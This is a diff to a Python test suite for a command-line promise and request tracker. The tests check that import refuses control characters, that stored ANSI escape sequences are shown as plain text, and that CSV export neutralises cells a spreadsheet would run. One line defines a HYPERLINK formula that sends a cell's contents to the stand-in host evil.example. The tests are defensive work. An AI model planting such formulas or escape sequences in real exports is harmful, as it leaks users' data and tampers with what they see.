@@ -162,7 +162,7 @@ def test_ics_has_one_event_per_open_promise_or_wish_and_tells_them_apart(cli, tm
     assert on_stdout.startswith("BEGIN:VCALENDAR") and on_stdout.count("BEGIN:VEVENT") == 2
 
 
-def test_imported_text_is_shown_as_plain_text(cli, tmp_path):
+def test_control_characters_are_refused_by_import(cli, tmp_path):
     import csv
 
     with (tmp_path / "odd.csv").open("w", newline="") as out:
@@ -170,9 +170,47 @@ def test_imported_text_is_shown_as_plain_text(cli, tmp_path):
         writer.writerow(["direction", "counterpart", "title", "asked_at", "promised_at"])
         writer.writerow(["received", "Zoë", "repair\ninvoice \x1b[2J\x1b[31mnow", "2026-11-23T08:00:00+01:00",
                          "2026-11-23T12:00:00+01:00"])
-    cli.ok("import", "odd.csv")
+    assert_one_line_error(cli("import", "odd.csv"), "line 2: title contains a line break",
+                          "Nothing was imported")
+    assert cli.ok("list", "--all", "--json").json == []
+
+
+def test_text_an_older_version_stored_is_shown_as_plain_text(cli):
+    import sqlite3
+
+    cli.add("from @zoë: placeholder")
+    with sqlite3.connect(cli.db) as conn:  # written before import refused control characters
+        conn.execute("UPDATE requests SET title = ?", ("repair\ninvoice \x1b[2J\x1b[31mnow",))
+    conn.close()
     for command in (["list"], ["show", "1"], ["due"]):
         shown = cli.ok(*command).out
         assert "\x1b" not in shown
     assert "I owe Zoë  repair invoice [2J [31mnow  needs reply" in cli.ok("list").out
     assert cli.ok("show", "1", "--json").json["title"] == "repair\ninvoice \x1b[2J\x1b[31mnow"  # kept as given
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_kept_as_text(cli, tmp_path):
+    rows = [{"direction": "received", "counterpart": name, "title": title,
+             "asked_at": "2026-11-23T08:00:00+01:00", "details": details}
+            for name, title, details in (("@eve", FORMULA, "-2+3"), ("Dana", "+1 for the offsite", ""),
+                                         ("Sam", "-5% discount", "@SUM(A1:A9)"))]
+    (tmp_path / "in.json").write_text(json.dumps(rows))
+    cli.ok("import", "in.json")
+    exported = cli.ok("export", "--format", "csv").out
+    import csv
+    import io
+
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'" + FORMULA in cells and "'@eve" in cells and "'-2+3" in cells
+    assert "'+1 for the offsite" in cells and "'@SUM(A1:A9)" in cells
+
+    # the way back keeps the guard, readable, and says so rather than undo it silently
+    (tmp_path / "out.csv").write_text(exported)
+    again = cli.ok("import", "out.csv", db=tmp_path / "other.db")
+    assert "Kept as written: a leading ' on lines 2, 3, 4" in again.out
+    titles = {r["title"] for r in cli.ok("list", "--json", db=tmp_path / "other.db").json}
+    assert titles == {"'" + FORMULA, "'+1 for the offsite", "'-5% discount"}
